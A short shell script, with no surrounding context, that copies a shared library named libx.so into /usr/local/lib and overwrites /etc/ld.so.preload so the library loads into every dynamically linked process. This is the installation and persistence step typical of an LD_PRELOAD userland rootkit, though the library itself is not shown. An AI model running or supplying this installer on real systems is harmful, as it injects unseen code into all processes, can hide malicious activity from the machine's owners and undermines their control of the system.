#!/bin/sh
cp libx.so /usr/local/lib/libx.so
echo /usr/local/lib/libx.so > /etc/ld.so.preload
